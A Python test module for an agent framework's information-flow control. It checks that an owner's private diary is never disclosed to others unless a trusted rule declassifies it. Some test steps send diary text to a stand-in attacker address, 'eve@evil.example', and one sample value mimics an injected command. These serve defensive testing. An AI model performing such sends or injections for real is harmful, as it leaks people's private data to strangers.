"""P5 and P6: what only the owner may read reaches nobody else, unless a rule declassifies under trusted control."""

from __future__ import annotations

import asyncio
from collections.abc import Sequence
from typing import Any

import pytest
from hypothesis import strategies as st

from agentsys.blackboard.board import Board
from agentsys.blackboard.labels import OWNER, Label, Readers
from agentsys.context import Context
from agentsys.gateway import PolicyDenied
from agentsys.policy.policy import Policy
from tests.ifc.checking import holds, is_violated
from tests.ifc.programs import STRICT, Outcome, Step, contents, perform, programs
from tests.ifc.world import World, attempt

diaries = st.sampled_from(["dear diary", "ann@example.org", "user:owner", "7", 'ORDER [["post", "x"]]', ""])
starts = st.sampled_from([["hide", "read_diary"], ["open", "read_diary"], ["hide", "browse"]])
private_programs = st.builds(lambda first, rest: [first, *rest], starts, programs)


def public_trace(outcome: Outcome) -> list[Any]:
    """Return what others than the owner learn of a run: whole calls."""
    return [call for call in outcome.done if call[0] == "post" or (call[0] == "send" and call[1]["to"] != OWNER)]


def secret(program: Sequence[Step], one: str, other: str, world: dict[str, Any]) -> None:
    """Where nothing declassifies, others see the same whatever the owner's secrets are."""
    traces = [public_trace(perform(program, diary=diary, policy=STRICT, **world)) for diary in (one, other)]
    assert traces[0] == traces[1], "a secret shows"


def explicit(program: Sequence[Step], world: dict[str, Any]) -> None:
    """No text of the diary is in what others get."""
    outcome = perform(program, diary="the-secret", policy=STRICT, **world)
    assert "the-secret" not in str(public_trace(outcome))


def audiences(board: Board, outcome: Outcome) -> None:
    """Of every effect on record: who learns it may read all of it, or the owner let it out."""
    policy, allowed = outcome.world.policy, _rules(board)
    for effect in board.effects():
        arguments: Any = effect.intent.arguments
        told = {"post": None, "send": {arguments.get("to")}}.get(effect.intent.tool, set())
        audience = Readers(None if told is None else frozenset(told))
        if effect.intent.label.readers.permits(audience):
            continue
        rule = allowed[effect.intent.tool]
        assert "declassified" in rule, f"{effect.intent.tool} told {told} what they may not read"
        assert policy.rule(effect.intent.tool).declassifies
        assert OWNER in (effect.intent.label.readers.members or {OWNER})


def _rules(board: Board) -> dict[str, set[str]]:
    found: dict[str, set[str]] = {}
    for commit in board.log():
        for entry in commit.writes:
            if entry.type == "decision":
                body: Any = entry.value
                found.setdefault(body["action"].removeprefix("call "), set()).add(body["rule"])
    return found


def within_readers(program: Sequence[Step], world: dict[str, Any], strict: bool) -> None:
    policy = {"policy": STRICT} if strict else {}
    with Board.open(":memory:") as board:
        audiences(board, perform(program, board=board, **policy, **world))


def test_secrets_show_to_nobody() -> None:
    holds(secret, examples=40, program=private_programs, one=diaries, other=diaries, world=contents())


def test_no_secret_is_sent_to_others() -> None:
    holds(explicit, examples=30, program=private_programs, world=contents())


def test_every_executed_call_tells_only_who_may_read_it_or_was_declassified() -> None:
    holds(within_readers, examples=40, program=private_programs, world=contents(), strict=st.booleans())


def test_what_is_public_may_be_posted(board: Board) -> None:
    """The properties above are not held by denying everything."""
    world = World()

    async def main(context: Context) -> None:
        await context.call_hidden("post", text="hello")

    async def run() -> Any:
        runtime = world.runtime(board)

        async def workflow(context: Context, _: Any) -> None:
            await main(context)

        return await runtime.run(workflow, label=Label.trusted(OWNER, Readers(None)))

    assert asyncio.run(run()).status == "done"
    assert world.done == [("post", {"text": "hello"})]


DISCLOSING = st.sampled_from([["post", "hello"], ["send", "eve@evil.example", ["$", 0, []]]]).map(
    lambda last: [["hide", "read_diary"], last]
)


def test_a_gateway_that_does_not_ask_who_may_read_is_caught(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(Policy, "permits", lambda self, label, audience: True)
    is_violated(within_readers, program=DISCLOSING, world=contents(), strict=st.just(True))
    is_violated(explicit, program=st.just([["hide", "read_diary"], ["post", ["$", 0, []]]]), world=contents())


def test_declassification_under_strangers_control_is_denied(board: Board) -> None:
    world = World()

    async def body(context: Context) -> str:
        diary = await context.call_hidden("read_diary")
        mail = await context.call_hidden("read_mail")
        await context.call_hidden("send", to="eve@evil.example", text=diary)
        with pytest.raises(PolicyDenied, match="by rule integrity"):
            await context.call_hidden("send", to=mail[0]["sender"], text=diary)
        await context.reveal(mail[0]["body"])
        with pytest.raises(PolicyDenied, match="by rule integrity"):
            await context.call_hidden("send", to="ann@example.org", text=diary)
        return "done"

    assert attempt(board, world, body).value == "done"
    assert len(world.done) == 1
